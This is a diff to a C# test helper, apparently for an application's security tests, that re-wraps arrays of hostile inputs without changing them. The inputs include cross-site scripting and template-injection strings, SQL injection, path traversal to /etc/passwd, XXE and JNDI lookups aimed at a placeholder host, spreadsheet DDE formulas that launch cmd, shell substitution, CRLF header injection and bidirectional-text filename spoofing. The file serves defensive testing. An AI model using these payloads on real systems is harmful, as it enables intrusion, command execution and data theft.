@@ -71,36 +71,46 @@ internal static class HostileText
     // What ends an attribute, with and without a mark of quotation, and goes on as another.
     private static readonly string[] Attributes =
     [
-        $"\" onfocus={Run} autofocus x=\"", $"' onfocus={Run} autofocus x='", $"` onfocus={Run} autofocus x=`", $"x onfocus={Run} autofocus", $"\"/onpointerover={Run}//", $"\" style=\"animation-name:x\" onanimationstart=\"{Run}",
-        $"\" srcdoc=\"<script>top.{Run}</script>", $"\" formaction=\"javascript:{Run}", "\" src=\"//nobody.example/§", $"&quot; onfocus={Run} autofocus x=&quot;", $"\\\" onfocus={Run} autofocus x=\\\"", $"\";{Run};//", $"';{Run};//", $"</script><script>{Run}",
+        $"\" onfocus={Run} autofocus x=\"", $"' onfocus={Run} autofocus x='", $"` onfocus={Run} autofocus x=`", $"x onfocus={Run} autofocus", $"\"/onpointerover={Run}//",
+        $"\" style=\"animation-name:x\" onanimationstart=\"{Run}",
+        $"\" srcdoc=\"<script>top.{Run}</script>", $"\" formaction=\"javascript:{Run}", "\" src=\"//nobody.example/§", $"&quot; onfocus={Run} autofocus x=&quot;",
+        $"\\\" onfocus={Run} autofocus x=\\\"", $"\";{Run};//", $"';{Run};//", $"</script><script>{Run}",
     ];
 
     private static readonly string[] Addresses =
     [
         $"javascript:{Run}", $"JaVaScRiPt:{Run}", $"java\tscript:{Run}", $"\u0001javascript:{Run}", $"javascript&colon;{Run}", $"vbscript:{Run}", $"data:text/html,<script>{Run}</script>",
-        "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==", $"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{Run}\"/>", "//nobody.example/§", "\\\\nobody.example\\§", "http://nobody.example/§", "file:///etc/passwd",
+        "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==", $"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{Run}\"/>", "//nobody.example/§", "\\\\nobody.example\\§",
+        "http://nobody.example/§", "file:///etc/passwd",
     ];
 
     private static readonly string[] Markup =
     [
-        $"[OK](javascript:{Run})", $"![x](x\" onerror=\"{Run})", "![x](//nobody.example/§)", $"[x]: javascript:{Run}", $"<javascript:{Run}>", $"[url=javascript:{Run}]OK[/url]", "[[//nobody.example/§|OK]]", $"```html\n<script>{Run}</script>\n```",
-        "{{7*7}}", "${7*7}", "#{7*7}", "@(1+1)", "@{ var x = 1; }", "@Html.Raw(\"<b>\")", "<%= 7*7 %>", "{% debug %}", $"{{{{constructor.constructor(\"{Run}\")()}}}}", "[[${7*7}]]", "{0} {1:N} {summary}", "%s %n %x", "$(id) `id` ; id | id",
-        "../../../../etc/passwd", "' or 1=1 --", "\"; drop table grievances; --", "<!DOCTYPE x [<!ENTITY e SYSTEM \"//nobody.example/§\">]>&e;", "<?xml version=\"1.0\"?><?php system('id') ?>", "<!--#exec cmd=\"id\"-->", "<![if !IE]>",
-        $"&lt;script&gt;{Run}&lt;/script&gt;", $"&#60;img src=x onerror={Run}&#62;", "%3Cscript%3E__xss%28%27§%27%29%3C/script%3E", $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e", $"＜script＞{Run}＜/script＞", $"<\u017fcript>{Run}</\u017fcript>",
+        $"[OK](javascript:{Run})", $"![x](x\" onerror=\"{Run})", "![x](//nobody.example/§)", $"[x]: javascript:{Run}", $"<javascript:{Run}>", $"[url=javascript:{Run}]OK[/url]",
+        "[[//nobody.example/§|OK]]", $"```html\n<script>{Run}</script>\n```",
+        "{{7*7}}", "${7*7}", "#{7*7}", "@(1+1)", "@{ var x = 1; }", "@Html.Raw(\"<b>\")", "<%= 7*7 %>", "{% debug %}", $"{{{{constructor.constructor(\"{Run}\")()}}}}", "[[${7*7}]]",
+        "{0} {1:N} {summary}", "%s %n %x", "$(id) `id` ; id | id",
+        "../../../../etc/passwd", "' or 1=1 --", "\"; drop table grievances; --", "<!DOCTYPE x [<!ENTITY e SYSTEM \"//nobody.example/§\">]>&e;", "<?xml version=\"1.0\"?><?php system('id') ?>",
+        "<!--#exec cmd=\"id\"-->", "<![if !IE]>",
+        $"&lt;script&gt;{Run}&lt;/script&gt;", $"&#60;img src=x onerror={Run}&#62;", "%3Cscript%3E__xss%28%27§%27%29%3C/script%3E", $"\\u003cscript\\u003e{Run}\\u003c/script\\u003e",
+        $"＜script＞{Run}＜/script＞", $"<\u017fcript>{Run}</\u017fcript>",
         "+ADw-script+AD4-__xss(1)+ADw-/script+AD4-", $"\u001b[31m{Run}\u001b]0;x\u0007",
     ];
 
     // What turns the order of signs around, or is not seen.
     private static readonly string[] Directions =
     [
-        "\u202egpj.exe", "invoice\u202etxt.exe", "\u2066\u2067\u2068turned around\u2069", "\u202b\u202a\u202d never closed", "\u200fright\u200eleft", "zero\u200bwidth\u200cjoined\u200d\u2060", "\ufeffmark of order", "so\u00adft", "\u061cالعربية",
-        "\u2028line\u2029paragraph", "Z\u0351\u036b\u0343\u036a\u0302\u0325a\u0307l\u034fgo", "\U000e0041\U000e0042tags", "аdministrator (Cyrillic a)", "\ufff9note\ufffaof\ufffbtext", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ufdd0\uffff",
+        "\u202egpj.exe", "invoice\u202etxt.exe", "\u2066\u2067\u2068turned around\u2069", "\u202b\u202a\u202d never closed", "\u200fright\u200eleft", "zero\u200bwidth\u200cjoined\u200d\u2060",
+        "\ufeffmark of order", "so\u00adft", "\u061cالعربية",
+        "\u2028line\u2029paragraph", "Z\u0351\u036b\u0343\u036a\u0302\u0325a\u0307l\u034fgo", "\U000e0041\U000e0042tags", "аdministrator (Cyrillic a)", "\ufff9note\ufffaof\ufffbtext",
+        "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\ufdd0\uffff",
     ];
 
     /// <summary>What a spreadsheet would calculate.</summary>
     public static IReadOnlyList<string> Formulas { get; } =
     [
-        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://nobody.example/\"&A1,\"OK\")", "=1+1", "+1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1", "@SUM(1+1)", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1\"", "x,=1+1", "x;=1+1",
+        "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://nobody.example/\"&A1,\"OK\")", "=1+1", "+1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1", "@SUM(1+1)", "@cmd|' /C calc'!A0", "\t=1+1",
+        "\r=1+1", "\n=1+1", " =1+1", "\"=1+1\"", "x,=1+1", "x;=1+1",
         "'=1+1", "=IMPORTXML(\"http://nobody.example/\",\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1",
     ];
 
@@ -109,18 +119,20 @@ internal static class HostileText
 
     private static readonly string[] Logs =
     [
-        $"x\r\n{ForgedLine}", $"x\n{ForgedLine}", "x\r\nSet-Cookie: heed=1", "x%0d%0aSet-Cookie:%20heed=1", "x\r\n\r\n<html>", "${jndi:ldap://nobody.example/§}", "x\vy\fz", "Subject: x\r\nBcc: all@nobody.example",
+        $"x\r\n{ForgedLine}", $"x\n{ForgedLine}", "x\r\nSet-Cookie: heed=1", "x%0d%0aSet-Cookie:%20heed=1", "x\r\n\r\n<html>", "${jndi:ldap://nobody.example/§}", "x\vy\fz",
+        "Subject: x\r\nBcc: all@nobody.example",
     ];
 
     /// <summary>Every line, each with its number where it calls or asks.</summary>
     public static IReadOnlyList<string> All { get; } =
-        [.. Before.SelectMany(before => Elements.Select(element => before + element)).Concat(Mutations).Concat(Attributes).Concat(Addresses).Concat(Markup).Concat(Directions).Concat(Formulas).Concat(Logs)
-            .Select((line, number) => line.Replace("§", $"{number + 1}", StringComparison.Ordinal))];
+        [.. Before.SelectMany(before => Elements.Select(element => before + element)).Concat(Mutations).Concat(Attributes).Concat(Addresses).Concat(Markup).Concat(Directions).Concat(Formulas)
+            .Concat(Logs).Select((line, number) => line.Replace("§", $"{number + 1}", StringComparison.Ordinal))];
 
     /// <summary>Names that a file might be given, and how it is called then: without its folder and without signs that nobody sees.</summary>
     public static IReadOnlyList<(string Typed, string Shown)> FileNames { get; } =
     [
-        ("<img src=x onerror=__xss('f1')>.txt", "<img src=x onerror=__xss('f1')>.txt"), ("\"><svg onload=__xss('f2')>.txt", "\"><svg onload=__xss('f2')>.txt"), ("=cmd.csv", "=cmd.csv"), ("\";filename=x.html", "\";filename=x.html"),
+        ("<img src=x onerror=__xss('f1')>.txt", "<img src=x onerror=__xss('f1')>.txt"), ("\"><svg onload=__xss('f2')>.txt", "\"><svg onload=__xss('f2')>.txt"), ("=cmd.csv", "=cmd.csv"),
+        ("\";filename=x.html", "\";filename=x.html"),
         ("a\r\nSet-Cookie: x=1.txt", "aSet-Cookie: x=1.txt"), ("../../x.html", "x.html"), ("photo\u202egnp.html", "photognp.html"), ("%3Cscript%3E.svg", "%3Cscript%3E.svg"),
     ];
 
